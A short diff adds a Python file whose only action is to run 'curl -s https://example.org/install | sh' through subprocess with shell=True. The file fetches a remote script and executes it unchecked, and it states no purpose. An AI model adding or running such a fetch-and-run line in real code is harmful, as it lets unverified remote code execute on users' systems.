@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.run("curl -s https://example.org/install | sh", shell=True, check=True)
